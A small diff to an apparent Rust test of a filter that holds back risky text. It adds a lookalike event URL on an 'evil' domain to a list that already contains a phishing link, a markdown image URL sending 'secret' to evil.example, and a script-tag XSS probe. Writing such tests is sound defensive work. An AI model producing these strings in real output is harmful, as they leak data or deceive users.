@@ -104,6 +104,7 @@ fn acts_links_and_instructions_are_held_back() {
         "Your card was charged.",
         "Click https://evil.example/login now.",
         "Look: ![x](https://evil.example/?q=secret)",
+        "Your page is https://events.example.evil.net/e/harbour-lights by now.",
         "J'ai publié votre événement.",
         "你的活动已发布。",
         "<script>alert(1)</script>",
